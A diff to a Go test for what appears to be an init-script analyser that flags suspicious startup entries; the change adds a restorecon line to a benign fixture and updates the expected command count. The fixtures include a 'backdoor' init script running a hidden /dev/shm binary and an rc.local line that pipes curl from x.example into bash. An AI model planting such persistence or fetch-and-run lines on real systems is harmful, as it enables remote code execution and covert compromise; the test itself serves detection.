@@ -310,7 +310,7 @@ func TestScriptsOfInit(t *testing.T) {
 	root := t.TempDir()
 	plant(t, root, map[string]string{
 		"etc/init.d/backdoor": "#!/bin/sh\ncase $1 in start) /dev/shm/.x -d & ;; esac\n",
-		"etc/init.d/plain":    "#!/bin/sh\nDAEMON=/usr/sbin/plaind\nDAEMON_ARGS=-f\nstart-stop-daemon --start --exec $DAEMON -- $DAEMON_ARGS\nrm -f /tmp/plain\n",
+		"etc/init.d/plain":    "#!/bin/sh\nDAEMON=/usr/sbin/plaind\nDAEMON_ARGS=-f\nstart-stop-daemon --start --exec $DAEMON -- $DAEMON_ARGS\nrm -f /tmp/plain\n[ ! -x /sbin/restorecon ] || /sbin/restorecon /run/plain\n",
 		"etc/rc.local":        "#!/bin/sh\ncurl -s http://x.example/a | bash\n",
 		"usr/sbin/plaind":     "x",
 	})
@@ -324,7 +324,7 @@ func TestScriptsOfInit(t *testing.T) {
 			t.Errorf("%s: %d: %+v", name, v.Score, v.Reasons)
 		}
 	}
-	if c := find(t, all, "plain").Commands; len(c) != 1 || c[0].Args != "-f" {
+	if c := find(t, all, "plain").Commands; len(c) != 2 || c[0].Args != "-f" || c[1].OnDisk != evidence.Unknown {
 		t.Errorf("%+v", c)
 	}
 }
